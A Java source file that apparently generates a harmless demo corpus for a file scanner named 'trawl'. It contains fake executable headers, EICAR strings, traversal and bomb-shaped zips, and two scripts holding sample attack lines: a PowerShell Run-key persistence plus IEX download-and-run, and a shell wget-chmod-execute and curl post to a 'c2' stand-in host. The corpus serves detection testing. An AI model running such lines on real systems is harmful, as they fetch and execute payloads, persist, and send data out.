package io.trawl.jobs.cli;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * A small, harmless corpus for {@code trawl demo}: PE- and ELF-like headers, zips (one nested, one with a
 * {@code ../} name, one bomb-shaped), scripts with IOC strings, the EICAR test string, random and empty files.
 * Nothing here executes or does harm.
 */
final class DemoCorpus {

	private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

	private DemoCorpus() {
	}

	static int writeTo(Path dir) throws IOException {
		Files.createDirectories(dir.resolve("windows"));
		Files.createDirectories(dir.resolve("linux"));
		Files.createDirectories(dir.resolve("archives"));
		Files.createDirectories(dir.resolve("scripts"));
		Random random = new Random(42);
		int n = 0;
		Files.write(dir.resolve("eicar.com"), EICAR.getBytes(StandardCharsets.US_ASCII)); n++;
		for (int i = 0; i < 8; i++) {
			Files.write(dir.resolve("windows/tool-" + i + ".exe"), pe(random, i % 2 == 0)); n++;
			Files.write(dir.resolve("linux/tool-" + i), elf(random)); n++;
		}
		Files.write(dir.resolve("windows/truncated.exe"), java.util.Arrays.copyOf(pe(random, false), 90)); n++;
		Files.write(dir.resolve("linux/truncated.so"), java.util.Arrays.copyOf(elf(random), 30)); n++;
		Files.writeString(dir.resolve("scripts/stage.ps1"), """
				$u = "http://203.0.113.7/payload.bin"
				New-ItemProperty -Path "HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" -Name upd -Value $u
				IEX (New-Object Net.WebClient).DownloadString($u)
				"""); n++;
		Files.writeString(dir.resolve("scripts/install.sh"), """
				#!/bin/sh
				wget http://malware.example.net/x86 -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x
				echo "contact admin@example.org" | curl -d @- https://198.51.100.23/c2
				"""); n++;
		Files.writeString(dir.resolve("scripts/readme.txt"), "Just text, nothing to see.\n"); n++;
		Files.write(dir.resolve("archives/bundle.zip"), zip("eicar.txt", EICAR.getBytes(StandardCharsets.US_ASCII),
				"notes/readme.txt", "hello".getBytes(StandardCharsets.US_ASCII))); n++;
		Files.write(dir.resolve("archives/nested.zip"), zip("inner.zip", zip("deep/eicar.txt",
				EICAR.getBytes(StandardCharsets.US_ASCII)))); n++;
		Files.write(dir.resolve("archives/traversal.zip"), zip("../../etc/evil.sh", "echo owned".getBytes())); n++;
		Files.write(dir.resolve("archives/bomb.zip"), zip("zeros.bin", new byte[20 * 1024 * 1024])); n++;
		Files.write(dir.resolve("archives/corrupt.zip"), java.util.Arrays.copyOf(zip("a.txt", new byte[4096]), 60)); n++;
		byte[] noise = new byte[256 * 1024];
		random.nextBytes(noise);
		Files.write(dir.resolve("random.bin"), noise); n++;
		Files.write(dir.resolve("empty"), new byte[0]); n++;
		Files.write(dir.resolve("one-byte"), new byte[] { 0x4d }); n++;
		Files.write(dir.resolve("copy-of-eicar.com"), EICAR.getBytes(StandardCharsets.US_ASCII)); n++;
		return n;
	}

	private static byte[] pe(Random random, boolean upx) {
		ByteBuffer b = ByteBuffer.allocate(4096).order(ByteOrder.LITTLE_ENDIAN);
		b.putShort(0, (short) 0x5A4D).putInt(0x3c, 0x80);
		b.putInt(0x80, 0x00004550).putShort(0x84, (short) 0x14c).putShort(0x86, (short) 1)
			.putInt(0x88, 0x65000000 + random.nextInt(1 << 20)).putShort(0x94, (short) 0xE0).putShort(0x96, (short) 0x102);
		b.putShort(0x98, (short) 0x10b).putInt(0x98 + 16, 0x1000).putInt(0x98 + 28, 0x400000)
			.putShort(0x98 + 68, (short) 2);
		byte[] name = (upx ? "UPX0\0\0\0\0" : ".text\0\0\0").getBytes(StandardCharsets.US_ASCII);
		b.position(0x178);
		b.put(name).putInt(0x1000).putInt(0x1000).putInt(0x200).putInt(0x200);
		if (upx) {
			b.position(0x400);
			b.put("UPX1".getBytes(StandardCharsets.US_ASCII));
		}
		byte[] body = new byte[1024];
		random.nextBytes(body);
		b.position(0x600);
		b.put(body);
		return b.array();
	}

	private static byte[] elf(Random random) {
		ByteBuffer b = ByteBuffer.allocate(2048).order(ByteOrder.LITTLE_ENDIAN);
		b.put(new byte[] { 0x7f, 'E', 'L', 'F', 2, 1, 1, 0 });
		b.putShort(16, (short) 3).putShort(18, (short) 0x3e).putInt(20, 1).putLong(24, 0x1040)
			.putLong(32, 64).putShort(52, (short) 64).putShort(54, (short) 56).putShort(56, (short) 0);
		byte[] body = new byte[1024];
		random.nextBytes(body);
		b.position(1024);
		b.put(body);
		return b.array();
	}

	private static byte[] zip(Object... nameThenContent) throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
			for (int i = 0; i < nameThenContent.length; i += 2) {
				zip.putNextEntry(new ZipEntry((String) nameThenContent[i]));
				zip.write((byte[]) nameThenContent[i + 1]);
				zip.closeEntry();
			}
		}
		return bytes.toByteArray();
	}
}
